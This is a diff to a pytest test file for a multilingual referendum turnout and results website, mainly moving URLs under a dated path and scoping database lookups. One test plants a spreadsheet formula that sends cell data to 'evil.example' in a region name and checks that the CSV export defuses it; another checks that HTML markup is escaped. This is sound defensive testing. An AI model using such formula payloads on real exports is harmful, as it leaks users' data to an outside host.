@@ -30,12 +30,12 @@ def test_the_home_page_calls_the_results_preliminary_and_puts_them_first(client,
     assert "Official results" not in text and "Официальные итоги" not in text and "Ресми қорытынды" not in text
     # The card, with the question verbatim, comes straight after the page's heading.
     assert html.select_one("main h1").find_next_sibling("section") is card
-    question = Referendum.objects.get()
+    question = Referendum.objects.get(slug="constitution-2026")
     assert getattr(question, f"question_{language}") in text
 
 
 def test_final_results_are_called_final(client, seeded):
-    Referendum.objects.update(results_status="final")
+    Referendum.objects.filter(slug="constitution-2026").update(results_status="final")
     assert "Final results established by the Central Referendum Commission" in page(client, "/en/").text
 
 
@@ -44,7 +44,7 @@ def test_the_parts_of_the_count_add_up_and_numbers_read_as_in_each_language(clie
     card = page(client, f"/{language}/").select_one(".result-card").get_text(" ", strip=True)
     assert turnout in card
     assert re.search(r"127[\s,\xa0]868", card)
-    referendum = Referendum.objects.get()
+    referendum = Referendum.objects.get(slug="constitution-2026")
     assert referendum.ballots_counted == referendum.participants == 9_127_192
     assert referendum.unaccounted_ballots == 0
 
@@ -57,21 +57,23 @@ def test_the_bars_are_as_long_as_their_figures(client, seeded):
 
 
 def test_the_admin_warns_when_the_parts_do_not_add_up(superuser_client):
-    referendum = Referendum.objects.get()
+    referendum = Referendum.objects.get(slug="constitution-2026")
     url = admin_url(referendum, language="ru")
     data = form_as_shown(superuser_client, url, unestablished_ballots="", results_status="preliminary")
     response = superuser_client.post(url, data, follow=True)
     assert "меньше числа граждан, принявших участие" in response.content.decode()
-    assert Referendum.objects.get().unestablished_ballots is None  # saved all the same: a warning, not a refusal
+    assert (
+        Referendum.objects.get(slug="constitution-2026").unestablished_ballots is None
+    )  # saved all the same: a warning, not a refusal
     data = form_as_shown(superuser_client, url, unestablished_ballots="127868", results_status="final")
     response = superuser_client.post(url, data, follow=True)
     assert "меньше числа граждан, принявших участие" not in response.content.decode()
-    assert Referendum.objects.get().results_status == "final"
+    assert Referendum.objects.get(slug="constitution-2026").results_status == "final"
 
 
 @pytest.mark.parametrize("language", ["kk", "ru", "en"])
 def test_the_turnout_page_has_the_day_and_the_regions(client, seeded, language):
-    html = page(client, f"/{language}/turnout/")
+    html = page(client, f"/{language}/referendums/2026-03-15/turnout/")
     national = html.select("table.data")[0].select("tbody tr")
     assert [row.th.get_text(" ", strip=True)[:5] for row in national] == [
         "10:00",
@@ -102,7 +104,7 @@ def test_the_turnout_page_has_the_day_and_the_regions(client, seeded, language):
 def test_the_turnout_page_names_the_polling_stations_and_the_voter_lists(
     client, seeded, language, heading, abroad, source
 ):
-    html = page(client, f"/{language}/turnout/")
+    html = page(client, f"/{language}/referendums/2026-03-15/turnout/")
     section = html.select_one("#stations-heading").find_parent("section")
     assert section.h2.get_text(strip=True) == heading
     figures = {div.dt.get_text(strip=True): div.dd.get_text(strip=True) for div in section.select("dl div")}
@@ -118,16 +120,16 @@ def test_the_turnout_page_names_the_polling_stations_and_the_voter_lists(
 
 
 def test_without_polling_station_figures_the_turnout_page_leaves_them_out(client, seeded):
-    Referendum.objects.update(
+    Referendum.objects.filter(slug="constitution-2026").update(
         polling_stations=None, polling_stations_abroad=None, countries_abroad=None, voters_on_lists=None
     )
-    html = page(client, "/en/turnout/")
+    html = page(client, "/en/referendums/2026-03-15/turnout/")
     assert html.select_one("#stations-heading") is None
     assert html.h1.get_text(strip=True) == "Turnout through the voting day"
 
 
 def test_an_unknown_regional_figure_is_unknown_not_zero(client, seeded):
-    html = page(client, "/en/turnout/?at=2000")
+    html = page(client, "/en/referendums/2026-03-15/turnout/?at=2000")
     mangystau = next(row for row in html.select("table.data")[1].select("tbody tr") if "Mangystau" in row.th.text)
     assert mangystau.select("td")[-1].get_text(strip=True) == "unknown"
     tile = next(tile for tile in html.select(".tile") if "Mangystau" in tile.text)
@@ -135,7 +137,7 @@ def test_an_unknown_regional_figure_is_unknown_not_zero(client, seeded):
 
 
 def test_the_regional_bars_are_proportional_and_can_be_ordered(client, seeded):
-    html = page(client, "/en/turnout/?at=1600&sort=turnout")
+    html = page(client, "/en/referendums/2026-03-15/turnout/?at=1600&sort=turnout")
     chart = html.select(".chart__svg")[1]
     labels = [text.get_text() for text in chart.select("text.chart__label")]
     widths = [float(rect["width"]) for rect in chart.select("rect.chart__bar")]
@@ -146,11 +148,11 @@ def test_the_regional_bars_are_proportional_and_can_be_ordered(client, seeded):
 
 @pytest.mark.parametrize("query", ["?at=0900", "?at=abc", "?sort=random"])
 def test_a_bad_choice_is_a_400(client, seeded, query):
-    assert client.get("/en/turnout/" + query).status_code == 400
+    assert client.get("/en/referendums/2026-03-15/turnout/" + query).status_code == 400
 
 
 def test_the_csv_has_twenty_regions_and_opens_as_utf8(client, seeded):
-    response = client.get("/ru/turnout/regions.csv")
+    response = client.get("/ru/referendums/2026-03-15/turnout/regions.csv")
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert response.content.startswith(b"\xef\xbb\xbf")
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
@@ -172,14 +174,14 @@ def test_the_api_gives_the_same_figures(client, seeded):
 
 
 def test_a_new_snapshot_shows_at_once_through_the_page_cache(client, seeded, page_cache_on):
-    client.get("/en/turnout/")
-    assert client.get("/en/turnout/")["X-Cache"] == "hit"
-    referendum = Referendum.objects.get()
+    client.get("/en/referendums/2026-03-15/turnout/")
+    assert client.get("/en/referendums/2026-03-15/turnout/")["X-Cache"] == "hit"
+    referendum = Referendum.objects.get(slug="constitution-2026")
     snapshot = TurnoutSnapshot.objects.create(
         referendum=referendum, taken_at=datetime(2026, 3, 15, 21, 0, tzinfo=ALMATY), percent="73.30"
     )
     RegionalTurnout.objects.create(snapshot=snapshot, region=Region.objects.get(slug="almaty"), percent="33.50")
-    response = client.get("/en/turnout/")
+    response = client.get("/en/referendums/2026-03-15/turnout/")
     assert response["X-Cache"] == "miss"
     assert "73.30" in response.content.decode() and "33.50" in response.content.decode()
 
@@ -187,15 +189,15 @@ def test_a_new_snapshot_shows_at_once_through_the_page_cache(client, seeded, pag
 def test_the_count_by_region_shows_once_staff_enter_it(client, seeded):
     from referendum.vote.models import RegionalResult
 
-    assert "The count by region" not in client.get("/en/turnout/").content.decode()
+    assert "The count by region" not in client.get("/en/referendums/2026-03-15/turnout/").content.decode()
     RegionalResult.objects.create(
-        referendum=Referendum.objects.get(),
+        referendum=Referendum.objects.get(slug="constitution-2026"),
         region=Region.objects.get(slug="astana"),
         participants=1000,
         votes_for=800,
         source_name="CRC",
     )
-    html = page(client, "/ru/turnout/")
+    html = page(client, "/ru/referendums/2026-03-15/turnout/")
     row = html.select_one("#regional-results-heading").find_next("tbody").tr
     assert row.th.get_text(strip=True) == "город Астана"
     assert "80,00%" in row.get_text() and "нет данных" in row.get_text()
@@ -203,13 +205,17 @@ def test_the_count_by_region_shows_once_staff_enter_it(client, seeded):
 
 def test_a_formula_typed_into_a_region_name_reaches_the_csv_as_text(client, seeded):
     Region.objects.filter(slug="abai").update(name_en='=HYPERLINK("https://evil.example/?"&A1,"Official")')
-    rows = list(csv.reader(io.StringIO(client.get("/en/turnout/regions.csv").content.decode("utf-8-sig"))))
+    rows = list(
+        csv.reader(
+            io.StringIO(client.get("/en/referendums/2026-03-15/turnout/regions.csv").content.decode("utf-8-sig"))
+        )
+    )
     assert rows[1][0].startswith("'=HYPERLINK")
 
 
 def test_the_card_says_of_the_unestablished_ballots_only_what_the_announcement_says(client, seeded):
     card = page(client, "/en/").select_one(".result-card").get_text(" ", strip=True)
-    assert "counted these ballots separately from the invalid ones" in card
+    assert "counted these ballots apart from the votes and the invalid ballots" in card
     assert "neither valid nor invalid" not in card
 
 
@@ -217,20 +223,21 @@ def test_the_turnout_page_costs_the_same_few_queries_however_many_regions_report
     client, seeded, django_assert_max_num_queries, django_assert_num_queries
 ):
     with django_assert_max_num_queries(6) as before:
-        assert client.get("/en/turnout/").status_code == 200
+        assert client.get("/en/referendums/2026-03-15/turnout/").status_code == 200
     snapshot = TurnoutSnapshot.objects.create(
-        referendum=Referendum.objects.get(), taken_at=datetime(2026, 3, 15, 21, 0, tzinfo=ALMATY)
+        referendum=Referendum.objects.get(slug="constitution-2026"),
+        taken_at=datetime(2026, 3, 15, 21, 0, tzinfo=ALMATY),
     )
     RegionalTurnout.objects.bulk_create(
         RegionalTurnout(snapshot=snapshot, region=region, percent="50.00") for region in Region.objects.all()
     )
     with django_assert_num_queries(len(before)):
-        assert client.get("/en/turnout/").status_code == 200
+        assert client.get("/en/referendums/2026-03-15/turnout/").status_code == 200
 
 
 def test_a_region_name_shown_in_a_fallback_language_is_marked_in_the_sentence_and_the_chart(client, seeded):
     Region.objects.filter(slug__in=["kyzylorda", "almaty"]).update(name_en="")  # highest and lowest at 16:00
-    html = page(client, "/en/turnout/?at=1600")
+    html = page(client, "/en/referendums/2026-03-15/turnout/?at=1600")
     names = [(span["lang"], span.get_text()) for span in html.select("#regions-heading ~ p span[lang]")]
     assert names == [("ru", "Кызылординская область"), ("ru", "город Алматы")]  # "Highest: …. Lowest: …."
     labels = [(tspan["lang"], tspan.get_text()) for tspan in html.select("text.chart__label tspan[lang]")]
@@ -242,8 +249,8 @@ def test_a_region_name_shown_in_a_fallback_language_is_marked_in_the_sentence_an
 def test_markup_typed_into_a_region_name_is_shown_as_text_in_the_sentence_and_the_chart(client, seeded, falls_back):
     markup = "<b>Kyzylorda</b>"
     Region.objects.filter(slug="kyzylorda").update(name_ru=markup, name_en="" if falls_back else markup)
-    response = client.get("/en/turnout/?at=1600")
+    response = client.get("/en/referendums/2026-03-15/turnout/?at=1600")
     assert b"<b>Kyzylorda" not in response.content
-    html = page(client, "/en/turnout/?at=1600")
+    html = page(client, "/en/referendums/2026-03-15/turnout/?at=1600")
     assert markup in html.select_one("#regions-heading ~ p").get_text()
     assert any(tspan.get_text() == markup for tspan in html.select("text.chart__label tspan"))
